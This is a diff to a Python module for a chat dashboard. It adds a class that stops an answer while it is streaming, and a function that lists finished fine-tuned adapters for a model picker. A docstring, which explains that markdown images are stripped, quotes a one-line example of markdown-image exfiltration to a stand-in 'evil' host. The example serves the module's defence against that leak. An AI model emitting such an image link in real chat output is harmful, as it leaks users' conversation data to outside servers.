@@ -1,11 +1,19 @@
-"""Chat text made safe to show as markdown: no images and no raw HTML, so neither the model nor a
+"""The chat page's logic (no Streamlit here).
+
+Chat text made safe to show as markdown: no images and no raw HTML, so neither the model nor a
 pasted message can make the browser fetch a URL (an image URL can carry the conversation away:
 `![x](https://evil/?q=secret)`). Everything else (bold, lists, links, tables, code) renders as
-before."""
+before. Also: the line of figures under an answer, stopping an answer in progress from the next
+run (`RunningAnswer`), and the fine-tuned adapters the model picker offers."""
 
 from __future__ import annotations
 
 import re
+import threading
+from dataclasses import dataclass
+from pathlib import Path
+
+from dashboard.lib import jobs
 
 WORD_JOINER = "\u2060"  # invisible, and no line break: splits `![` or `<tag` inside code
 _FENCE = re.compile(r" {0,3}(`{3,}|~{3,})")
@@ -101,3 +109,70 @@ def dropped_note(dropped: int, history: int) -> str:
         f"The {dropped} oldest message{plural} did not fit the model's context and were left "
         f"out: it saw {kept} of the {history} earlier messages."
     )
+
+
+# -- stopping an answer ----------------------------------------------------------------------
+STOP_WAIT_S = 10.0  # how long a new run waits for the answer it stopped to be saved
+
+
+class RunningAnswer:
+    """The answer one page run is streaming, kept where the browser session's next run finds it.
+
+    A click on the page (Stop, or any other control) starts a new run at once, in another
+    thread, while the old run is still generating; the old run would only notice at its next
+    piece of text, and the model keeps computing until then. So the new run `halt`s the answer:
+    its `stop` event ends the model after the token it is computing (ChatSession.stream), and the
+    new run waits for `done` (the stopped part saved) before it reads the conversation."""
+
+    def __init__(self) -> None:
+        self.stop = threading.Event()  # passed to ChatSession.stream
+        self.done = threading.Event()  # set by the streaming run once the turn is closed
+
+    def halt(self, timeout: float = STOP_WAIT_S) -> bool:
+        """Stop the answer and wait until its turn is saved; False if it took over `timeout`."""
+        self.stop.set()
+        return self.done.wait(timeout)
+
+
+# -- fine-tuned adapters for the model picker -------------------------------------------------
+_UPLOAD_PREFIX = re.compile(r"^[0-9a-f]{16}-")  # finetune_view.save_upload's content-hash prefix
+
+
+@dataclass(frozen=True)
+class Finetuned:
+    """A finished fine-tune job's adapter, as the chat page's model picker offers it. Its key,
+    the job id, is what the picker and the URL's ?model= hold (never a server path)."""
+
+    key: str
+    adapter: Path
+    label: str
+
+
+def finetuned_models(root: Path | None = None) -> dict[str, Finetuned]:
+    """The adapters of the fine-tune jobs that finished (the Fine-tune page's runs), newest
+    first, by job id. Unreadable job folders are skipped: the picker still shows the rest."""
+    found: dict[str, Finetuned] = {}
+    try:
+        listed = jobs.list_jobs(root)
+    except OSError:  # the jobs folder cannot be read: no fine-tuned models to offer
+        return found
+    for job in listed:
+        adapter = job.output_dir / "adapter"
+        try:
+            if job.status != "done" or not (adapter / "adapter_config.json").is_file():
+                continue
+            argv = job.argv
+        except (jobs.JobError, OSError, ValueError, KeyError):
+            continue
+        base = _flag(argv, "--model") or "?"
+        data = _UPLOAD_PREFIX.sub("", Path(_flag(argv, "--data") or "?").name)
+        found[job.id] = Finetuned(job.id, adapter, f"fine-tuned {base} on {data} (job {job.id})")
+    return found
+
+
+def _flag(argv: list[str], name: str) -> str | None:
+    """The value after `name` in an argv (None if absent)."""
+    try:
+        return argv[argv.index(name) + 1]
+    except (ValueError, IndexError):
+        return None
